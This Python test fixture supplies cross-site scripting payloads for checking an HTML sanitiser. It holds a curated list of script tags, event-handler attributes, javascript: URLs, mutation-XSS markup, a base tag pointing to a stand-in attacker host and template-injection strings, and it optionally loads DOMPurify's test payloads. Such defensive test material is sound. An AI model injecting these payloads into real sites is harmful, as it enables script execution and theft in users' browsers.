"""What attackers type where text is asked for."""

from __future__ import annotations

import json
import os
from pathlib import Path

GIVEN = "MASTHEAD_TEST_XSS"
BESIDE = Path(__file__).parents[3] / "shared" / "data" / "xss"

# One of each kind that has worked somewhere: a tag, an attribute left early, an address that runs,
# markup that a cleaner and a browser read differently, a comment or a text area left early.
OWN = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    '" autofocus onfocus="alert(1)" x="',
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<img src=x onerror=alert(1)//",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    '<a href="javascript:alert(1)">read on</a>',
    '<a href="java&#10;script:alert(1)">read on</a>',
    '<a href="data:text/html,<script>alert(1)</script>">read on</a>',
    "<form action=javascript:alert(1)><button>Save</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</textarea><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//attacker.example/>",
    "<figure><img src=/pictures/x/card.jpg onerror=alert(1)><figcaption>a</figcaption></figure>",
    "<details open ontoggle=alert(1)>more</details>",
    "<video><source onerror=alert(1)></video>",
    "<p onclick=alert(1) onmouseover=alert(1) style='position:fixed;inset:0'>a page of mine</p>",
    "{{ 7 * 7 }}{% raw %}${alert(1)}",
    "]]><script>alert(1)</script>",
    "\u202egnp.exe <b>bold</b> &lt;script&gt;alert(1)&lt;/script&gt;",
)


def payloads() -> list[str]:
    """Our own, and those of DOMPurify's tests when they lie beside the project."""
    path = Path(os.environ.get(GIVEN, BESIDE)) / "dompurify" / "expect.json"
    given = json.loads(path.read_text(encoding="utf-8")) if path.is_file() else []
    typed = [*OWN, *(one["payload"] for one in given)]
    return [one for one in dict.fromkeys(typed) if one.strip()]  # nothing is no headline
